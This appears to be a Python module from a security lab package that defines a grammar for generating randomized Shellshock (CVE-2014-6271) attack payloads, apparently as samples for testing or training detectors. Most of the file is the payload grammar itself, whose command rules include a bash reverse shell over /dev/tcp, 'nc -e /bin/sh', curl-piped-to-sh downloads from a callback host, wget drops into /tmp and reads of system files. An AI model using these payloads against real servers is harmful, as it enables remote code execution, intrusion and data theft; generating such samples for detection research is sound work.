"""Shellshock (CVE-2014-6271 and its kin): a function definition in a variable, with commands behind it."""

from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS

_RULES: Final = rules(
    r"""
start
    «function»;«o»«commands»
    «function»;«o»«commands»
    «function»;«o»«commands»
    «function»;«o»«commands»
    () {«o»_;«o»} >_[$($())] {«o»«commands»;«o»}
    () {«o»(a)=>\'«o»«commands»
    () {«o»«lower:1»«o»«lower:1»>\ bash -c «shell»
    «word»=«function»;«o»«commands»
    «function»;«function»;«o»«commands»
    () { :; }; «commands»; ()«o»{«o»:;«o»};«o»«commands»
    () {«o»x()«o»{«o»_;«o»};«o»x()«o»{«o»_;«o»}«o»<<«lower:1»;«o»}«o»«commands»
    true«o»<<EOF«o»<<EOF«o»<<EOF«o»«commands»
function
    () {«o»:;«o»}
    () {«o»:;«o»}
    () {«o»:;};
    (){:;}
    ()«o»{«o»«lower:1»;}
    ()«o»{«o»ignored;«o»}
    ()«o»{«o»_;«o»}«o»>_[$($())]«o»{«o»:;}
    ()«o»{«o»«label»;«o»}
    ()«o»{«o»/bin/true;«o»}
    ()«o»{«o»echo«space»«lower:4»;«o»}
    ()«o»{«o»test;}
    ()«tab»{«tab»:;«tab»}
    ()«o»{«o»return;}
    ()«o»{«o»#«o»}
o
    «empty»
    «space»
    «space»
    «space»
    «space»
    «tab»
commands
    «shell»
    «shell»
    «shell»
    echo; «shell»
    echo Content-Type: text/plain; echo; «shell»
    echo "Content-type: text/html";echo;«shell»
    echo «alnum:8»
    echo X-«label»: $(«plain_command»)
    «shell»;«shell»
    echo ;echo; «shell»|«plain_command»
    «shell» &
    exit;«shell»
    echo -e "\r\n\r\n$(«shell»)"
shell
    «bin»«unix_command»
    «unix_command»
    /bin/bash -c '«unix_command»'
    /bin/bash -c "«unix_command»"
    bash -i >& /dev/tcp/«ip»/«port» 0>&1
    /usr/bin/env «plain_command»
    «bin»wget http://«callback»/«label» -O /tmp/«lower:3»
    «bin»curl http://«callback»/«label»|«bin»sh
    «bin»ping -c «int:1-9» «callback_host»
    «bin»sleep «int:2-30»|«bin»sleep «int:2-30»
    «bin»cat «unix_file»
    /usr/bin/perl -e 'print "«alnum:6»"'
    «bin»nc -e /bin/sh «ip» «port»
    telnet «ip» «port»
bin:
    /bin/ /usr/bin/ /sbin/ /usr/local/bin/ «empty» «empty»
"""
)
_GRAMMAR: Final = Grammar({**BLOCKS, **_RULES})


def payload(rng: Random) -> str:
    """One function definition with commands behind it."""
    return _GRAMMAR.generate(rng)
